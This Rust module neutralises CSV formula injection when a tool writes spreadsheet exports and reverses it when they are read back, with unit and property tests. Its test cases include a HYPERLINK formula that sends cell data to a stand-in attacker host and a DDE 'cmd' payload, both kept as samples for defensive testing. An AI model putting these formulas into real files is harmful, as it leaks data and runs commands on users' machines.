//! One CSV cell's guard against formula injection, below both the writing of CSVs
//! (`render::csv_out`) and their reading (`input`): [`neutralise`] marks a cell a
//! spreadsheet would run as a formula, [`restore`] undoes it on every import, so that a
//! round trip gives back what was written. Also the UTF-8 byte order mark both sides know.

use std::borrow::Cow;

/// The first characters that make a spreadsheet read a cell as a formula (OWASP's
/// CSV-injection list): `=`, `+`, `-`, `@`, tab, carriage return.
pub const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The mark put before a neutralised cell: a spreadsheet shows a cell starting with it as
/// text, and never runs it.
pub const MARK: char = '\'';

/// The UTF-8 byte order mark, which tells a spreadsheet the file is UTF-8.
pub const BOM: &[u8] = b"\xEF\xBB\xBF";

/// A plain number, as the tool writes counts and measures (`12`, `-3`, `0.8333`, and with
/// `--excel` `0,8333`): a spreadsheet reads it as a number, never as a formula.
fn is_number(s: &str) -> bool {
    let digits = s.strip_prefix('-').unwrap_or(s);
    let (whole, fraction) = match digits.split_once(['.', ',']) {
        Some((w, f)) => (w, Some(f)),
        None => (digits, None),
    };
    let all_digits = |p: &str| !p.is_empty() && p.bytes().all(|b| b.is_ascii_digit());
    all_digits(whole) && fraction.is_none_or(all_digits)
}

/// The one rule of every CSV cell the tool writes. A cell that a spreadsheet would read as
/// a formula (it starts with one of [`FORMULA_STARTS`] and is not a plain number) gets
/// [`MARK`] before it; so does a cell that already starts with the mark, so that the rule
/// can be undone: `=1+1` is written `'=1+1`, `'quoted` is written `''quoted`, `-3` and
/// `2017-03-02` stay as they are.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    match cell.chars().next() {
        Some(MARK) => Cow::Owned(format!("{MARK}{cell}")),
        Some(c) if FORMULA_STARTS.contains(&c) && !is_number(cell) => {
            Cow::Owned(format!("{MARK}{cell}"))
        }
        _ => Cow::Borrowed(cell),
    }
}

/// Undoes [`neutralise`] on a cell read from a CSV: the mark is taken off when a formula
/// character or another mark follows it. Any other cell is read as written (a cell such as
/// `'Laporan'` typed by hand keeps its quote), so `restore(neutralise(x)) == x` for every x.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix(MARK) {
        Some(rest)
            if rest
                .chars()
                .next()
                .is_some_and(|c| c == MARK || FORMULA_STARTS.contains(&c)) =>
        {
            rest
        }
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn formulas_are_neutralised_and_restored() {
        let cases = [
            ("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", true),
            ("+1+1", true),
            ("-2+3+cmd|' /C calc'!A0", true),
            ("@SUM(A1)", true),
            ("\t=1", true),
            ("\r=1", true),
            ("'=1", true),
            ("''", true),
            ("'", true),
            ("-", true),
            ("-3", false),
            ("-0.5", false),
            ("12,5", false),
            ("2017-03-02", false),
            ("Budi Santoso", false),
            ("", false),
        ];
        for (cell, changed) in cases {
            let out = neutralise(cell);
            assert_eq!(out != cell, changed, "{cell:?} -> {out:?}");
            if changed {
                assert!(out.starts_with(MARK), "{out:?}");
            }
            assert_eq!(restore(&out), cell);
        }
        // What a person typed with a quote in front is read as written.
        assert_eq!(restore("'Laporan'"), "'Laporan'");
        assert_eq!(restore("'5"), "'5");
    }

    proptest! {
        #[test]
        fn restore_undoes_neutralise(s in "['=+@\\t\\r -]{0,3}.{0,6}") {
            let n = neutralise(&s);
            prop_assert_eq!(restore(&n), s.as_str());
            // Nothing written starts like a formula, but a plain number.
            let first = n.chars().next();
            prop_assert!(
                first.is_none_or(|c| !FORMULA_STARTS.contains(&c)) || is_number(&n),
                "{:?}", n
            );
        }
    }
}
